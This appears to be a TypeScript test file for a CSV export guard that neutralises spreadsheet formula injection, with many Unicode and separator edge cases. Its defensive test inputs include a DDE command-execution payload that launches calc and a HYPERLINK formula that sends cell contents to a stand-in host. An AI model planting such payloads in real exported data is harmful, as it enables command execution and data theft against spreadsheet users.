import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { parseCsv } from '../../test/csv'
import { EFFORT, hunt } from '../../test/seed'
import { CSV_COLUMNS, csvText, guarded } from './csv'

/** Restores the text of a cell, by the expression of docs/reference/record-formats.md. */
const unguarded = (cell: string) => cell.replace(/(?<=^|[\t\n\v\f\r\x85\u2028\u2029;|])'/g, '')

/**
 * True if a spreadsheet may read a cell as a formula. By Unicode's tables, invisible characters are skipped
 * and look-alikes of the signs count. No formula has a bracket that closes before one opens, so a number, a
 * closing bracket and the next cells are not a formula.
 */
function isFormula(cell: string): boolean {
  const seen = [...cell].filter(
    (character) => !/^[\p{C}\p{Z}\p{M}\p{Default_Ignorable_Code_Point}\u2800"]$/u.test(character),
  )
  return (
    /^[=+\-−@]/.test(seen[0]?.normalize('NFKC') ?? '') &&
    !/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?[,\]}]*([\]}],.*)?$/.test(seen.join(''))
  )
}
/**
 * Cells of a text as a reader with other separators and no quotes sees them, like spreadsheets of other
 * locales.
 */
const cellsOf = (text: string) => text.split(/[\t\n\v\f\r\x85\u2028\u2029;|]/)

const csvOf = (memo: string) =>
  csvText(
    [{ uid: '0x12', longitude: -33.5, latitude: -0.25, location: memo, memo, recipe_types: [memo] }],
    false,
  )
function check(text: string): void {
  const line = csvOf(text)
  const [cells] = parseCsv(line)
  const of = (name: string) => cells![CSV_COLUMNS.indexOf(name)]!
  expect([of('longitude'), of('latitude')]).toEqual(['-33.5', '-0.25'])
  for (const name of ['memo', 'location', 'recipe_types'])
    expect([text, name, isFormula(of(name)) && of(name)]).toEqual([text, name, false])
  expect(unguarded(of('memo'))).toBe(text)
  expect(JSON.parse(unguarded(of('recipe_types')))).toEqual([text])
  expect([text, cellsOf(line).filter((cell) => isFormula(cell))]).toEqual([text, []])
}

describe('the CSV guard, for cells that a spreadsheet could read as a formula,', () => {
  test.each([
    ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\r\n=1', '\n\n\t =1', '＝1', '＋1'],
    ...['－1', '＠1', '−1', '﹦1', '⁼1', '⩵1'],
    ...['\u00a0=1', '\u2003=1', '\u3000=1', '\u200b=1', '\ufeff=1', '\u2060=1', '\u00ad=1', '\u034f=1'],
    ...['\u202e=1', '\u{e0020}=1', '\u3164=1', '\u2800=1', '\u0301=1', '\ue000=1', '\u0007=1'],
    ...['\u200b \ufeff\t@x'],
    ...[
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://x.example?"&A1;"x")',
      'a;=1',
      'a\t=1',
      'a\n=1',
      'a|@x',
      'a; =1',
      'a;"=1"',
      '"=1"',
      "a;'=1",
      "'=1",
      "''=1",
      "'",
      ';',
      ';=',
      ';;=;=',
      '-33.5;=1',
      '\n-1+cmd|x',
      '\n-1',
      '\n-5]+cmd',
      '\n-5 ',
      '\n-5]',
      '[;-5',
    ],
  ])('guards the cell %j', check)
  hunt('guards cells of random texts made of the same characters', 2_000, ({ random, cases }) => {
    const parts = [
      ...['=', '+', '-', '@', '＝', '－', '−', "'", '"', ';', '|', ',', '\t', '\n', '\r', '\v', '\u2028'],
      ...[' ', '\u00a0', '\u200b', '\ufeff', '\u0301', '1', '.5', 'e', 'a', 'é', '𝕊', '[', ']', '\\'],
    ]
    const part = () => parts[Math.floor(random() * parts.length)]!
    for (let i = 0; i < cases; i++) check(Array.from({ length: 1 + Math.floor(random() * 9) }, part).join(''))
  })
  test('guards characters that Unicode normalises to = + - @, also after invisible characters', () => {
    let [forms, unseen] = [0, 0]
    for (let code = 1; code <= 0x10ffff; code++) {
      // Small efforts leave out the planes without characters, and those of private use.
      if (EFFORT < 1 && code === 0x40000) code = 0xe0000
      if (EFFORT < 1 && code === 0xe2000) break
      if (code >= 0xd800 && code <= 0xdfff) continue
      const character = String.fromCodePoint(code)
      if (/^[=+\-−@]/.test(character.normalize('NFKC')) && ++forms)
        expect([code, guarded(`${character}1`)]).toEqual([code, `'${character}1`])
      if (/^[\p{White_Space}\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]$/u.test(character) && ++unseen)
        expect([code, guarded(`${character}=1`).startsWith("'")]).toEqual([code, true])
    }
    expect([forms > 15, unseen > 200]).toEqual([true, true])
  })
})

test('the expression in docs/reference/record-formats.md undoes the guard', () => {
  const [, source] = /cell\.replace\(\/(.+)\/g, ''\)/.exec(
    readFileSync('docs/reference/record-formats.md', 'utf8'),
  )!
  for (const text of ["''=1", '=1', "a;'b\n'=\t=", "a;b|'", '\r=\u2028-x'])
    expect(guarded(text).replace(new RegExp(source!, 'g'), '')).toBe(text)
})

test('the CSV guard leaves coordinates, WKT, lists and words unchanged', () => {
  const texts = [
    ...['', 'A place', 'x=1', 'a-b, -c', '[-33.5, -1]', '[\n  -33.5,\n  -1.5e-7\n]'],
    ...['{"coordinates":[\n-1\n,-2]}', 'POINT(-1 2)', 'SRID=4326;POINT(-1 -2)'],
    '{"type":"Point","coordinates":[\n13.1,\n-5]}',
    ...['data:image/png;base64,+/=', "it's; that's", '12;-5;'],
  ]
  for (const text of texts) expect(guarded(text)).toBe(text)
  expect(
    parseCsv(
      csvText([{ longitude: -180, latitude: 0, revoked: true, recipe_types: [], memo: null }], false),
    )[0],
  ).toEqual(
    CSV_COLUMNS.map(
      (name) => ({ longitude: '-180', latitude: '0', revoked: 'true', recipe_types: '[]' })[name] ?? '',
    ),
  )
})

hunt(
  'the CSV guard leaves JSON with line breaks before numbers and brackets unchanged',
  500,
  ({ random, cases }) => {
    const number = () => (random() - 0.5) * 10 ** Math.floor(random() * 30 - 15)
    const pad = () => ' '.repeat(random() * 3)
    for (let i = 0; i < cases; i++) {
      const ring = Array.from({ length: 1 + Math.floor(random() * 4) }, () => [number(), number()])
      const compact = JSON.stringify({ type: 'Polygon', coordinates: [ring] })
      const text = compact.replace(/-?\d[^,\]]*|\[|$/g, (part) => (part ? `\n${pad()}${part}` : pad()))
      expect([JSON.parse(text), guarded(text)]).toEqual([JSON.parse(compact), text])
    }
  },
)

test('the CSV guard takes time proportional to the length of the text', { tags: ['slow'] }, () => {
  for (const part of [
    '\t',
    ';',
    ' ',
    '\u200b',
    "'",
    ';"',
    '\n-1',
    '\n-1]',
    ']',
    '] ',
    '-1 ',
    '9',
    '\n9',
    ' ;= ',
  ]) {
    const text = `\n-${part.repeat(1_000_000 / part.length)}x`
    const started = performance.now()
    expect(unguarded(guarded(text))).toBe(text)
    expect([part, performance.now() - started < 30_000]).toEqual([part, true])
  }
})
